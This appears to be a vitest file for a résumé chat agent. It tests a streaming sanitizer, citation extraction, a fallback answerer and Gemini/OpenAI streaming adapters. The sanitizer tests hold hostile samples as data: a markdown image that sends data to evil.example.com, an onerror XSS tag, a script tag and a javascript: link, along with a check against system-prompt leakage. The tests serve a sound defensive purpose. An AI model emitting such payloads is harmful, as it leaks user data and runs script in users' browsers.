import { afterEach, describe, expect, test } from "vitest";
import { citedSources } from "../../supabase/functions/_shared/agents/chat/passages.ts";
import { systems } from "../../supabase/functions/_shared/agents/chat/prompt.ts";
import { extractAnswer } from "../../supabase/functions/_shared/agents/chat/rules.ts";
import { createSafeText } from "../../supabase/functions/_shared/agents/chat/safe-text.ts";
import { createGeminiPort } from "../../supabase/functions/_shared/agents/gemini.ts";
import { createOpenAiPort } from "../../supabase/functions/_shared/agents/openai.ts";
import type { StreamEnd, TextPort, TextRequest } from "../../supabase/functions/_shared/agents/stream.ts";
import { passage } from "./support/answering.ts";
import {
  type ProviderServer,
  type Reply,
  type Script,
  startProviderServer,
} from "./support/provider-server.ts";

describe("prose made safe while it streams", () => {
  const through = (pieces: string[], sources: string[] = [], instructions = "") => {
    const safe = createSafeText(sources, instructions);
    return [...pieces.map((piece) => safe.push(piece)), safe.end()].join("");
  };

  test("a sentence is sent when it is complete, not before", () => {
    const safe = createSafeText([], "");
    expect(safe.push("You bake")).toBe("");
    expect(safe.push(" bread. You al")).toBe("You bake bread. ");
    expect(safe.push("so cook")).toBe("");
    expect(safe.end()).toBe("You also cook");
  });

  test.each([
    [
      "an image that carries data away",
      "Hello ![x](https://evil.example.com/?q=secret) there.",
      "Hello  there.",
    ],
    ["a link keeps its words", "See [my page](https://evil.example.com).", "See my page."],
    ["a bare address", "Go to https://evil.example.com/a now.", "Go to [link removed] now."],
    ["a tag", "Hi <img src=x onerror=alert(1)> you.", "Hi  you."],
    ["a tag without an end", "Hi <script src=x", "Hi "],
    ["a script address", "Click javascript:alert(1) now.", "Click [link removed] now."],
  ])("%s", (_, text, safe) => {
    expect(through([text])).toBe(safe);
  });

  test("cut into single characters it is as safe", () => {
    const text = "See ![x](https://evil.example.com/?q=1) and <b>this</b>. https://evil.example.com is bad.";
    expect(through([...text])).toBe("See  and this. [link removed] is bad.");
  });

  test("an address that a source has may pass", () => {
    expect(through(["Look at https://ada.example.com."], ["My page: https://ada.example.com"])).toBe(
      "Look at https://ada.example.com.",
    );
  });

  test("a copy of the instructions is left out, in any case and spacing", () => {
    const copy = systems.career.slice(120, 300).toUpperCase().replaceAll(" ", "  ");
    expect(through([`You bake. `, `My rules: ${copy}`], [], systems.career)).toBe("You bake. ");
  });

  test("a line without an end is not held for ever", () => {
    const safe = createSafeText([], "");
    expect(safe.push("word ".repeat(200)).length).toBeGreaterThan(900);
  });
});

describe("sources of an answer", () => {
  test("are the passages that it cites, once each, and no number that there is not", () => {
    const passages = [passage("Baked bread."), passage("Cooked."), passage("Sold.")];
    expect(citedSources("You sold [3] and baked [1][3]. Also [9] and [0].", passages)).toMatchObject([
      { number: 1, quote: "Baked bread." },
      { number: 3, quote: "Sold." },
    ]);
  });
});

describe("an answer without a model", () => {
  const passages = [
    passage("Head baker · Mill Bakery\nCut packaging waste by 18 %.\nTrained four apprentices."),
    passage("Languages: French, German", { path: "languages.0" }),
  ];

  test("quotes the lines that share most with the question, with their passage's number", () => {
    expect(extractAnswer("How did I reduce packaging waste?", passages)).toBe(
      "This is what your résumé says:\n“Cut packaging waste by 18 %.” [1]",
    );
  });

  test("changes with the evidence", () => {
    const other = [passage("Cut water use by 5 %.")];
    expect(extractAnswer("How did I reduce water use?", other)).toContain("“Cut water use by 5 %.” [1]");
  });

  test("says so when nothing fits, and from what it could answer", () => {
    const overview = [passage("Bakes.", { rank: 0 }), passage("x", { source: "practice", rank: 0 })];
    expect(extractAnswer("What about astronomy?", overview)).toBe(
      "I find nothing about that. I can answer from your résumé and your interview practice.",
    );
    expect(extractAnswer("Anything?", [])).toContain("Add a résumé first");
  });

  test("the same question gives the same answer", () => {
    expect(extractAnswer("bread waste apprentices", passages)).toBe(
      extractAnswer("bread waste apprentices", passages),
    );
  });
});

describe.each(["gemini", "openai"] as const)("%s streams", (name) => {
  let server: ProviderServer | undefined;
  afterEach(() => server?.close());

  const portFor = async (script: Script): Promise<TextPort> => {
    server = await startProviderServer(name, script);
    return name === "gemini"
      ? createGeminiPort({ apiKey: "k", model: "deep", fastModel: "fast", baseUrl: server.url })
      : createOpenAiPort({ apiKey: "k", model: "m", baseUrl: server.url });
  };
  const request = (rest: Partial<TextRequest> = {}): TextRequest => ({
    agent: "chat",
    promptVersion: "chat/1",
    system: "Be kind.",
    facts: {},
    texts: [{ name: "question", text: "Hello?" }],
    tier: "fast",
    maxOutputTokens: 100,
    timeoutMs: 5_000,
    ...rest,
  });
  const read = async (port: TextPort, rest: Partial<TextRequest> = {}) => {
    const pieces: string[] = [];
    const stream = port.streamText(request(rest));
    for (;;) {
      const { done, value } = await stream.next();
      if (done) return { pieces, end: value as StreamEnd };
      pieces.push(value);
    }
  };

  test("the pieces as they come, then model and tokens", async () => {
    const port = await portFor([{ kind: "stream", pieces: ["You ", "bake."] }]);
    expect(await read(port)).toEqual({
      pieces: ["You ", "bake."],
      end: {
        provider: name,
        model: name === "gemini" ? "gemini-test-001" : "gpt-test-001",
        usage: { inputTokens: 11, outputTokens: 2 },
        truncated: false,
      },
    });
  });

  const failures: Reply[] = [
    { kind: "status", status: 503 },
    { kind: "status", status: 429 },
    { kind: "stream", pieces: ["You "], ending: "cut" },
  ];
  test.each(failures)("$kind $status → model_unavailable", async (reply) => {
    await expect(read(await portFor([reply]))).rejects.toMatchObject({ code: "model_unavailable" });
  });

  test("a refusal → model_refused with its reason class", async () => {
    const port = await portFor([{ kind: "stream", pieces: ["You "], ending: "refusal" }]);
    await expect(read(port)).rejects.toMatchObject({ code: "model_refused", details: { reason: "safety" } });
  });

  test("silence past its limit → model_unavailable", async () => {
    const port = await portFor([{ kind: "stream", pieces: ["You "], ending: "silence" }]);
    await expect(read(port, { timeoutMs: 50 })).rejects.toMatchObject({ code: "model_unavailable" });
  });

  test("a caller who leaves ends the provider's call", async () => {
    const port = await portFor([{ kind: "stream", pieces: ["You "], ending: "silence" }]);
    const leaving = new AbortController();
    const stream = port.streamText(request({ signal: leaving.signal }));
    expect((await stream.next()).value).toBe("You ");
    leaving.abort(new Error("gone"));
    await expect(stream.next()).rejects.toThrow("gone");
    await server?.clientGone;
  });
});
